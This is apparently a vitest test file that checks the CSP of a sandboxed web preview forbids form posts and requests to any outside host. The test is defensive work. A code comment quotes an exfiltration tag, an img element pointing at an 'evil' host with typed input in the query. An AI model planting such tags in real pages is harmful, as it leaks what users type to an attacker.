import { describe, expect, it } from "vitest";
import { PREVIEW_CSP, previewBootstrapResponse } from "~server/bff/sandbox-preview.server";

/**
 * Visitors' shared WEB sandboxes (issue 30): a preview can host a convincing "session expired,
 * enter your passcode" form under our header, so nothing typed into it may leave. The preview's
 * own CSP forbids form posts and every request that is not to data: or blob: (an
 * `<img src="https://evil/?typed">` once carried input out through `img-src https:`).
 */
function directives(csp: string): Map<string, string[]> {
  return new Map(
    csp.split(";").map((part) => {
      const [name, ...values] = part.trim().split(/\s+/);
      return [name, values];
    }),
  );
}

describe("the WEB preview's CSP lets nothing leave", () => {
  it("forbids form posts and any request to another host: data: and blob: only", () => {
    const header = previewBootstrapResponse().headers.get("Content-Security-Policy") ?? "";
    expect(header).toBe(PREVIEW_CSP);
    const csp = directives(header);
    expect(csp.get("default-src")).toEqual(["'none'"]);
    expect(csp.get("form-action")).toEqual(["'none'"]);
    expect(csp.get("img-src")).toEqual(["data:", "blob:"]);
    expect(csp.get("media-src")).toEqual(["data:", "blob:"]);
    expect(csp.get("font-src")).toEqual(["data:"]);
    // Every fetching directive falls back to default-src 'none' unless named; none names a host.
    for (const [name, values] of csp) {
      for (const value of values) expect(`${name} ${value}`).not.toMatch(/https?:|wss?:|\*/i);
    }
    for (const open of ["connect-src", "frame-src", "child-src", "worker-src", "object-src"]) {
      expect(csp.has(open)).toBe(false);
    }
  });
});
